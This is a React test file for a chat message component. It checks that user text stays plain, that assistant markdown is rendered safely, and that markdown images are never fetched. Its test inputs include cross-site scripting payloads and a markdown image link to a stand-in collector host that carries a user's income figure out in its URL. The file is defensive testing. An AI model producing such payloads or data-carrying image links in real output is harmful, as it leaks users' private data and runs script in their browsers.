import { render, screen } from '@testing-library/react';
import type { UIMessage } from 'ai';
import { describe, expect, it } from 'vitest';
import { MessageView } from './MessageView';

const assistant = (text: string): UIMessage => ({ id: 'a1', role: 'assistant', parts: [{ type: 'text', text }] });

describe('messages', () => {
  it('the person’s words are a bubble of plain text, never markup', () => {
    const { container } = render(<MessageView message={{ id: 'u1', role: 'user', parts: [{ type: 'text', text: '**income** <b>5000</b>' }] }} />);
    expect(container.querySelector('.bubble')).toHaveTextContent('**income** <b>5000</b>');
    expect(container.querySelector('b, strong')).toBeNull();
  });

  it('the assistant’s markdown is rendered, raw HTML and script links are not', () => {
    const { container } = render(<MessageView message={assistant('1. **Income**\n2. [risky](javascript:alert(1))\n\n<img src=x onerror="alert(1)"><script>alert(2)</script>')} />);
    expect(screen.getByText('Income').tagName).toBe('STRONG');
    expect(container.querySelector('img, script')).toBeNull();
    expect(screen.getByText('risky').getAttribute('href') ?? '').not.toMatch(/javascript/i);
  });

  it('a markdown image is shown as its words and never fetched (its URL could carry data out)', () => {
    const { container } = render(<MessageView message={assistant('See ![chart](https://collector.example/p.png?d=income-5400) now')} />);
    expect(container.querySelector('img')).toBeNull();
    expect(container).toHaveTextContent('See [image: chart] now');
    expect(container.innerHTML).not.toContain('collector.example');
  });
});
